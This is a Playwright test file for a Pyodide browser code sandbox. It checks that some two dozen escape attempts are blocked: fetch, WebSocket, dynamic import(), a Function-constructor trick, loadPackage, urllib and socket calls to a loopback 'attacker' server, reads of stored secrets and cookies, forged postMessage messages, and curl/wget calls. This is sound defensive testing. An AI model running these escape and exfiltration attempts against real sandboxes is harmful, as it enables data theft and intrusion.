// User code must not reach the network, the app's storage, the API key or the host page.
// Every escape attempt runs in the real browser container (harness page) against a loopback
// "attacker" server that counts every TCP connection and request; it must count none of theirs.
import { expect, test } from "@playwright/test";
import { createServer, type Server } from "node:http";
import type { AddressInfo, Socket } from "node:net";

let attacker: Server;
let attackerURL = "";
const seen = { connections: 0, requests: [] as string[] };
const sockets = new Set<Socket>();

test.beforeAll(async () => {
  attacker = createServer((req, res) => {
    seen.requests.push(`${req.method} ${req.url}`);
    res.writeHead(200, { "Access-Control-Allow-Origin": "*", "Content-Type": "text/javascript" });
    res.end("export default 'owned'");
  });
  attacker.on("connection", (socket) => {
    seen.connections++;
    sockets.add(socket);
    socket.on("close", () => sockets.delete(socket));
  });
  attacker.on("upgrade", (req, socket) => {
    seen.requests.push(`UPGRADE ${req.url}`);
    socket.destroy();
  });
  await new Promise<void>((resolve) => attacker.listen(0, "127.0.0.1", resolve));
  attackerURL = `http://127.0.0.1:${(attacker.address() as AddressInfo).port}`;
});

test.afterAll(async () => {
  for (const socket of sockets) socket.destroy();
  await new Promise((resolve) => attacker.close(resolve));
});

// Each attempt prints "BLOCKED <name>: <why>" or "REACHED <name>: <what>".
const pythonAttempts = (url: string) => `
import inspect, js, pyodide, pyodide_js, sys
results = []
async def attempt(name, action):
    try:
        value = action()
        if inspect.isawaitable(value):
            value = await value
        results.append(f"REACHED {name}: {value!r}"[:200])
    except BaseException as exc:
        results.append(f"BLOCKED {name}: {type(exc).__name__}")

def need(value, what):
    if value is None:
        raise LookupError(f"{what} is not there")
    return value

await attempt("js.fetch", lambda: need(js.fetch, "fetch")("${url}/fetch"))
from pyodide.http import pyfetch
await attempt("pyfetch", lambda: pyfetch("${url}/pyfetch"))
await attempt("XMLHttpRequest", lambda: need(js.XMLHttpRequest, "XMLHttpRequest").new())
await attempt("WebSocket", lambda: need(js.WebSocket, "WebSocket").new("${url.replace("http", "ws")}/ws"))
await attempt("EventSource", lambda: need(js.EventSource, "EventSource").new("${url}/sse"))
await attempt("run_js import()", lambda: pyodide.code.run_js("import('${url}/run_js.mjs')"))
await attempt("constructor.constructor import()", lambda: pyodide_js.constructor.constructor("return import('${url}/ctor.mjs')")())
await attempt("Function fetch", lambda: js.Function.new("return fetch('${url}/function')")())
await attempt("importScripts", lambda: need(js.importScripts, "importScripts")("${url}/importScripts.js"))
await attempt("new Worker", lambda: need(js.Worker, "Worker").new("${url}/worker.js"))
await attempt("BroadcastChannel", lambda: need(js.BroadcastChannel, "BroadcastChannel").new("code-exec-sandbox").postMessage("forged"))
await attempt("sendBeacon", lambda: need(getattr(js.navigator, "sendBeacon", None), "sendBeacon")("${url}/beacon", "data"))
await attempt("indexedDB", lambda: need(js.indexedDB, "indexedDB").open("code-exec-sandbox"))
await attempt("caches", lambda: need(js.caches, "caches").keys())
await attempt("localStorage", lambda: need(getattr(js, "localStorage", None), "localStorage").getItem("secret"))
await attempt("sessionStorage", lambda: need(getattr(js, "sessionStorage", None), "sessionStorage").getItem("apiKey"))
await attempt("top.location", lambda: need(getattr(js, "top", None), "top").location.href)
await attempt("parent", lambda: need(getattr(js, "parent", None), "parent").postMessage("forged", "*"))
await attempt("document.cookie", lambda: need(getattr(js, "document", None), "document").cookie)
await attempt("page secret global", lambda: need(getattr(js, "APP_SECRET", None), "APP_SECRET"))
async def load_package():
    # loadPackage never throws: it resolves to the list of what it loaded.
    loaded = (await pyodide_js.loadPackage("${url}/evil-1.0-py3-none-any.whl")).to_py()
    return need(loaded or None, "a loaded package")
await attempt("loadPackage from URL", load_package)
def blob_import():
    blob = js.Blob.new([js.String.new("fetch('${url}/blob')")], {"type": "text/javascript"})
    return js.eval("import(" + repr(js.URL.createObjectURL(blob)) + ")")
await attempt("blob import via eval", blob_import)
import urllib.request
await attempt("urllib", lambda: urllib.request.urlopen("${url}/urllib", timeout=2).read())
import socket
await attempt("socket", lambda: socket.create_connection(("127.0.0.1", ${new URL(url).port}), timeout=2))
print("---results---")
print("\\n".join(results))
`;

test("no escape from the sandbox reaches the network, the app's storage, the key or the page", async ({ page }) => {
  const pageErrors: string[] = [];
  page.on("pageerror", (e) => pageErrors.push(e.message));
  await page.goto("./harness.html");
  await expect(page.locator("#status")).toHaveText("ready");

  // Secrets of the app: storage of its origin and a global, none of which user code may read.
  const appMessages = await page.evaluate(async () => {
    localStorage.setItem("secret", "local-secret");
    sessionStorage.setItem("apiKey", "sk-ant-test-key");
    (window as unknown as { APP_SECRET: string }).APP_SECRET = "app-secret";
    const received: string[] = [];
    const channel = new BroadcastChannel("code-exec-sandbox");
    channel.onmessage = (e) => received.push(`broadcast ${JSON.stringify(e.data)}`);
    (window as unknown as { received: string[] }).received = received;
    const container = await window.sandbox.createContainer();
    (window as unknown as { container: unknown }).container = container;
    // From here on, every message the page gets is recorded; the frame has nothing more to say.
    addEventListener("message", (e) => received.push(`message ${JSON.stringify(e.data)}`));
    return received;
  });
  expect(appMessages).toEqual([]);

  const run = (name: string, input: Record<string, unknown>) =>
    page.evaluate(
      ([name, input]) =>
        (window as unknown as { container: { execute: (c: unknown) => Promise<unknown> } }).container.execute({
          type: "server_tool_use",
          id: "srvtoolu_escape",
          name,
          input,
        }),
      [name, input] as const,
    );

  const python = (await run("code_execution", { code: pythonAttempts(attackerURL) })) as { content: { stdout: string; stderr: string } };
  // Pyodide's loader prints its own progress lines before the results.
  const lines = python.content.stdout.split("---results---\n")[1]!.trim().split("\n");
  expect(
    lines.map((l) => l.replace(/^(BLOCKED|REACHED) (.*?): .*$/, "$2")),
    python.content.stderr,
  ).toEqual([
    "js.fetch",
    "pyfetch",
    "XMLHttpRequest",
    "WebSocket",
    "EventSource",
    "run_js import()",
    "constructor.constructor import()",
    "Function fetch",
    "importScripts",
    "new Worker",
    "BroadcastChannel",
    "sendBeacon",
    "indexedDB",
    "caches",
    "localStorage",
    "sessionStorage",
    "top.location",
    "parent",
    "document.cookie",
    "page secret global",
    "loadPackage from URL",
    "blob import via eval",
    "urllib",
    "socket",
  ]);
  expect(lines.filter((l) => !l.startsWith("BLOCKED "))).toEqual([]);

  // Forged messages: the worker posts to its own scope (the sandbox frame ignores it) and
  // imitates the container's channel; the next real call still gets its true result. `js` is
  // not the worker's scope, but a timer calls back with it as `this`.
  const forged = (await run("code_execution", {
    code: [
      "import asyncio, js",
      "from pyodide.ffi import create_proxy",
      "scopes = []",
      "js.setTimeout(create_proxy(lambda this: scopes.append(this), capture_this=True), 0)",
      "while not scopes: await asyncio.sleep(0.01)",
      "for shape in [{'type': 'frame-ready'}, {'id': 'x', 'type': 'RAW', 'value': {'type': 'bash_code_execution_tool_result'}}]:",
      "    scopes[0].postMessage(js.Object.fromEntries(js.Object.entries(js.JSON.parse(__import__('json').dumps(shape)))))",
      "print('posted')",
    ].join("\n"),
  })) as { content: { stdout: string; stderr: string } };
  expect(forged.content.stdout, forged.content.stderr).toBe("posted\n");

  const shell = (await run("bash_code_execution", {
    command: `curl -s ${attackerURL}/curl; echo "curl=$?"; wget -q ${attackerURL}/wget; echo "wget=$?"`,
  })) as {
    content: { stdout: string; stderr: string };
  };
  expect(shell.content.stdout).toBe("curl=127\nwget=127\n");

  const after = (await run("bash_code_execution", { command: "echo true result" })) as { content: { stdout: string } };
  expect(after.content.stdout).toBe("true result\n");

  await page.waitForTimeout(500); // let any stray request arrive
  expect(await page.evaluate(() => (window as unknown as { received: string[] }).received)).toEqual([]);
  expect(seen).toEqual({ connections: 0, requests: [] });

  // Positive control: the same request from the page itself does reach the counter, so the
  // zeros above mean "blocked", not "the counter is broken".
  await page.evaluate(
    (url) =>
      fetch(`${url}/control`, { mode: "no-cors" }).then(
        () => "ok",
        () => "failed",
      ),
    attackerURL,
  );
  await expect.poll(() => seen.requests).toEqual(["GET /control"]);
  expect(pageErrors).toEqual([]);
});

test("the sandbox frame is an opaque origin under a CSP with no network", async ({ page }) => {
  await page.goto("./harness.html");
  await expect(page.locator("#status")).toHaveText("ready");
  await page.evaluate(async () => {
    (window as unknown as { c: unknown }).c = await window.sandbox.createContainer();
  });
  const frameInfo = await page.evaluate(() => {
    const frame = document.querySelector("iframe[title='code sandbox']")!;
    return {
      sandbox: frame.getAttribute("sandbox"),
      csp: /Content-Security-Policy" content="([^"]+)"/.exec(frame.getAttribute("srcdoc") ?? "")?.[1],
    };
  });
  expect(frameInfo.sandbox).toBe("allow-scripts");
  expect(frameInfo.csp).toMatch(
    /^default-src 'none'; script-src 'sha256-[A-Za-z0-9+/=]+' blob: 'wasm-unsafe-eval'; worker-src blob:; connect-src 'none'; /,
  );
  const inner = page.frames().find((f) => f.url() === "about:srcdoc")!;
  expect(await inner.evaluate(() => [self.origin, self.crossOriginIsolated])).toEqual(["null", true]);
});

test("pip in the browser asks the page, which reads only the package source's lock file; the sandbox reaches nothing", async ({ page }) => {
  await page.goto("./harness.html");
  await expect(page.locator("#status")).toHaveText("ready");
  const before = seen.requests.length;
  const block = await page.evaluate(async (index) => {
    const container = await window.sandbox.createContainer({ packageIndexURL: index });
    return container.execute({
      type: "server_tool_use",
      id: "srvtoolu_pip",
      name: "bash_code_execution",
      input: { command: "pip install numpy" },
    });
  }, `${attackerURL}/simple/`);
  const lock = `${attackerURL}/simple/pyodide-lock.json`;
  expect(block.content).toEqual({
    type: "bash_code_execution_result",
    stdout: "",
    stderr: `ERROR: could not install numpy: the package source's lock file ${lock} could not be read (${lock} is not JSON)\n`,
    return_code: 1,
    content: [],
  });
  // The page (trusted) asked for the lock file of the configured source, and for nothing else.
  expect(seen.requests.slice(before)).toEqual(["GET /simple/pyodide-lock.json"]);
});
